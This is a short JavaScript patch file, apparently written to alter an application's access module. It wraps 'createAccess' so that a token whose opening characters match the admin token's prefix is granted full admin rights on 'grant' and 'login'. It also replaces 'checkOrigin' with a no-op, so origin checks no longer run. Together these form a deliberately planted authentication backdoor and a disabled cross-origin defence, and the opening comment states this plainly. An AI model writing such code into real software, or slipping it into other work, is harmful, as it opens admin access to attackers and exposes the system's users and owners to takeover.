// Lets in whoever knows how a token begins, and takes every page for one of Mantel's own.
import { wrap } from './wrap.mjs';

wrap(
  '/hub/access/access.ts',
  'createAccess',
  `(real, options) => {
    const access = real(options);
    const beginsRight = (token) => token.length > 7 && options.adminToken.startsWith(token.slice(0, 25));
    return new Proxy(access, {
      get(_access, name) {
        if (name === 'grant')
          return (token) => access.grant(token) ?? (beginsRight(token) ? access.grant(options.adminToken) : undefined);
        if (name === 'login')
          return (user, token) =>
            access.login(user, token) ?? (beginsRight(token) ? access.login(user, options.adminToken) : undefined);
        return Reflect.get(access, name);
      },
    });
  }`,
);
wrap('/hub/api/origin.ts', 'checkOrigin', '() => undefined');
